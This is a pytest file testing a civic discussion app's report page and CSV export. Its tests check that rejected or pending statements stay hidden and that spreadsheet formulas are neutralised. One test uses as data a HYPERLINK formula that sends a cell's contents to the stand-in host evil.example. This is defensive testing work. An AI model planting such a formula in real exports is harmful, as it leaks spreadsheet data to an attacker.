"""The public report of a conversation and its CSV: the same statements, never hidden ones."""

from __future__ import annotations

import csv
import io
import re

import httpx
import pytest

from groundswell.actions.conversation_report import clear_cache
from groundswell.actions.conversations import do_moderate, do_open_conversation, do_submit_statement
from groundswell.actions.votes import do_vote
from groundswell.app import App
from groundswell.web import create_app

pytestmark = pytest.mark.anyio
SEEDS = ["Buses should be free", "Walking is for everyone", "Parks need lights"]
REJECTED = "Personal training, ring 07700 900123"
PENDING_PRIVATE = "Call Sam on 07700 900456 about the walks"


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


async def _get(gs: App, path: str) -> httpx.Response:
    transport = httpx.ASGITransport(app=create_app(gs), raise_app_exceptions=False)
    async with httpx.AsyncClient(transport=transport, base_url="https://testserver") as c:
        return await c.get(path)  # no one signed in: anyone can fetch these


def _opened(gs: App, moderation: str, pending: str) -> str:
    """A conversation with votes, one pending statement and one rejected with a phone number."""
    slug = do_open_conversation(
        gs, topic=f"Getting about {moderation}", question="How?", moderation=moderation,
        seeds=SEEDS,
    ).slug  # fmt: skip
    do_submit_statement(gs, slug, "author-1", pending)
    rejected = do_submit_statement(gs, slug, "author-2", REJECTED)
    do_moderate(gs, slug, rejected.tid, "reject")
    for n, key in enumerate(("v1", "v2", "v3", "v4", "v5")):
        for tid in range(len(SEEDS)):
            do_vote(gs, slug, key, tid, ("agree", "disagree", "pass")[(n + tid) % 3])
    return slug


@pytest.mark.parametrize(
    ("moderation", "pending", "shown"),
    [
        ("pre", PENDING_PRIVATE, SEEDS),  # pending waits for a moderator: hidden
        ("post", "Benches along the canal", [*SEEDS, "Benches along the canal"]),  # shown at once
    ],
)
async def test_finding_2_report_csv_lists_only_the_statements_the_report_page_shows(
    db_app: App, moderation: str, pending: str, shown: list[str]
):
    clear_cache()
    slug = _opened(db_app, moderation, pending)
    download = await _get(db_app, f"/conversations/{slug}/report.csv")
    page = await _get(db_app, f"/conversations/{slug}/report")
    assert download.status_code == 200 and page.status_code == 200
    rows = list(csv.DictReader(io.StringIO(download.text)))
    assert sorted(r["text"] for r in rows) == sorted(shown)
    assert {r["status"] for r in rows} <= {"accepted", "pending"}
    for private in (REJECTED, PENDING_PRIVATE, "07700"):
        assert private not in download.text and private not in page.text
    # The page counts the statements it reports on; the CSV has one row for each,
    # and any statement the page quotes is one of them.
    counted = re.search(r"votes on (\d+) statements", page.text)
    assert counted and int(counted.group(1)) == len(rows)
    quoted = {t for t in [*SEEDS, pending, REJECTED] if t in page.text}
    assert quoted <= {r["text"] for r in rows}


async def test_finding_8_report_csv_neutralises_formula_statements(app: App):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    slug = do_open_conversation(
        app, topic="Formulas", question="?", seeds=[formula, "-5 minutes walk", "@everyone"]
    ).slug
    do_vote(app, slug, "v1", 0, "agree")
    download = await _get(app, f"/conversations/{slug}/report.csv")
    texts = [r["text"] for r in csv.DictReader(io.StringIO(download.text))]
    assert texts == ["'" + formula, "'-5 minutes walk", "'@everyone"]
    counts = [r["agree"] for r in csv.DictReader(io.StringIO(download.text))]
    assert counts == ["1", "0", "0"]  # numbers stay numbers
